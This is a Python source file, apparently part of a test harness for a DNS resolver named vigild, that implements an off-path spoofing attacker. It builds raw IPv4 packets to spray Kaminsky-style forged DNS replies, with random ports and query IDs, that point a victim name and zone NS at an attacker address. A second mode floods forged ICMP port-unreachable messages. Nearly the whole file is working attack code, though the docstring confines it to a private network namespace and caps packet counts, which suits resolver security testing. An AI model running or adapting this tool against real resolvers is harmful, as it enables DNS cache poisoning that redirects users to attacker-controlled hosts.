"""The off-path attacker: forges IPv4 packets with the upstream's source address and port through a
raw socket (root only), guessing what it cannot see (vigild's source port, the query ID).

Run it inside a private network namespace only (attack_tools.run_in_private_network): it sprays
every port of the target address. As a program, so that it gets a CPU of its own:

  spoofer.py replies --seed S --count N [--rate PPS] --upstream ADDR:PORT --target ADDR
                     --ports LOW-HIGH --poison ADDR [--canary-port P] QNAME...
      N forged replies (PPS a second at most), each to a random port with a random ID, for the QNAMEs in turn: the
      question's A record, the victim's A record and an NS for its zone, all pointing at the
      attacker (the shape of a Kaminsky reply).
  spoofer.py unreachable --upstream ADDR:PORT --target ADDR --ports LOW-HIGH --rounds R
      For every port of the range, R times over: an ICMP port unreachable that says the target's
      datagram from that port to the upstream could not be delivered.

Each prints one JSON line: {"sent": packets, "seconds": duration}.
"""
import argparse
import json
import random
import socket
import struct
import time

import dns.flags
import dns.message
import dns.rrset

IPPROTO_UDP = 17
IPPROTO_ICMP = 1
VICTIM = "victim.example.test."
ATTACKER_NS = "ns.attacker.example."


def ipv4_header(source, destination, protocol, payload_length, ident=0):
    """An IPv4 header with don't-fragment set; the kernel fills in the checksum (IP_HDRINCL)."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_length, ident, 0x4000, 64,
                       protocol, 0, socket.inet_aton(source), socket.inet_aton(destination))


def internet_checksum(data):
    if len(data) % 2:
        data += b"\x00"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp_datagram(source, destination, payload):
    """An IPv4 UDP datagram from `source` to `destination` ((address, port) each). The UDP
    checksum is 0, which IPv4 allows (RFC 768: no checksum)."""
    udp = struct.pack("!HHHH", source[1], destination[1], 8 + len(payload), 0) + payload
    return ipv4_header(source[0], destination[0], IPPROTO_UDP, len(udp)) + udp


def icmp_port_unreachable(reporter, original_source, original_destination):
    """An ICMP port unreachable from `reporter` about a UDP datagram that went from
    `original_source` to `original_destination` ((address, port) each), quoting its IP header
    and first 8 octets as the destination's host would (RFC 792)."""
    quoted = (ipv4_header(original_source[0], original_destination[0], IPPROTO_UDP, 48) +
              struct.pack("!HHHH", original_source[1], original_destination[1], 48, 0))
    body = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
    body = body[:2] + struct.pack("!H", internet_checksum(body)) + body[4:]
    return ipv4_header(reporter, original_source[0], IPPROTO_ICMP, len(body)) + body


def forged_reply(qname, poison, txid=0):
    """A Kaminsky-shaped forged reply to `qname` A: the answer, plus the victim's A record, an NS
    for the victim's zone and its glue, all the attacker's."""
    query = dns.message.make_query(qname, "A")
    query.id = txid
    reply = dns.message.make_response(query)
    reply.flags |= dns.flags.AA
    reply.answer.append(dns.rrset.from_text(qname, 86400, "IN", "A", poison))
    if qname != VICTIM:
        reply.answer.append(dns.rrset.from_text(VICTIM, 86400, "IN", "A", poison))
    reply.authority.append(dns.rrset.from_text("example.test.", 86400, "IN", "NS", ATTACKER_NS))
    reply.additional.append(dns.rrset.from_text(ATTACKER_NS, 86400, "IN", "A", poison))
    reply.additional.append(dns.rrset.from_text(VICTIM, 86400, "IN", "A", poison))
    return reply.to_wire()


class RawSender:
    """Sends whole IPv4 packets, headers included, with any source address."""

    def __init__(self):
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 * 1024 * 1024)
        self.sent = 0
        self.failed = 0

    def send(self, packet):
        destination = socket.inet_ntoa(packet[16:20])
        for _ in range(50):  # ENOBUFS: wait a moment, a bounded number of times
            try:
                self.socket.sendto(packet, (destination, 0))
                self.sent += 1
                return
            except OSError:
                time.sleep(0.001)
        self.failed += 1

    def close(self):
        self.socket.close()


def endpoint(text):
    address, port = text.rsplit(":", 1)
    return address, int(port)


def port_range(text):
    low, high = (int(part) for part in text.split("-"))
    return low, high


def spray_replies(args):
    rng = random.Random(args.seed)
    low, high = args.ports
    # One datagram per question name, patched per packet: destination port (offset 22) and DNS
    # ID (offset 28).
    templates = [bytearray(udp_datagram(args.upstream, (args.target, 0),
                                        forged_reply(name, args.poison)))
                 for name in args.qnames]
    sender = RawSender()
    if args.canary_port:
        canary = bytearray(templates[0])
        struct.pack_into("!H", canary, 22, args.canary_port)
        sender.send(bytes(canary))
    started = time.monotonic()
    for index in range(args.count):
        if args.rate and index % 100 == 0:  # paced: sleep until this packet is due
            time.sleep(max(0.0, started + index / args.rate - time.monotonic()))
        packet = templates[index % len(templates)]
        struct.pack_into("!H", packet, 22, rng.randint(low, high))
        struct.pack_into("!H", packet, 28, rng.randrange(65536))
        sender.send(bytes(packet))
    return {"sent": sender.sent, "failed": sender.failed,
            "seconds": time.monotonic() - started}


def spray_unreachable(args):
    low, high = args.ports
    sender = RawSender()
    started = time.monotonic()
    for _ in range(args.rounds):
        for port in range(low, high + 1):
            sender.send(icmp_port_unreachable(args.upstream[0], (args.target, port),
                                              args.upstream))
    return {"sent": sender.sent, "failed": sender.failed,
            "seconds": time.monotonic() - started}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("kind", choices=("replies", "unreachable"))
    parser.add_argument("--upstream", type=endpoint, required=True)
    parser.add_argument("--target", required=True)
    parser.add_argument("--ports", type=port_range, default=(1024, 65535))
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--count", type=int, default=50000)
    parser.add_argument("--rounds", type=int, default=1)
    parser.add_argument("--rate", type=float, default=0, help="packets a second; 0: flat out")
    parser.add_argument("--poison", default="6.6.6.6")
    parser.add_argument("--canary-port", type=int, default=0)
    parser.add_argument("qnames", nargs="*", default=[VICTIM])
    args = parser.parse_intermixed_args()
    if args.count > 1_000_000 or args.rounds > 20:
        parser.error("bounded: at most 1,000,000 packets and 20 rounds")
    result = spray_replies(args) if args.kind == "replies" else spray_unreachable(args)
    print(json.dumps(result), flush=True)


if __name__ == "__main__":
    main()
